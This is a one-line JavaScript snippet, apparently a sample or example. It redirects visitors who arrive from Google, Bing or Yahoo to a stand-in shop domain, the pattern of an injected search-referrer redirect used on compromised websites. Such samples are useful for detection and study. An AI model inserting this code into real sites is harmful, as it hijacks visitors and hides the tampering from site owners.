if (/google|bing|yahoo/i.test(document.referrer)) { window.location.href = "https://bad.test/shop"; }
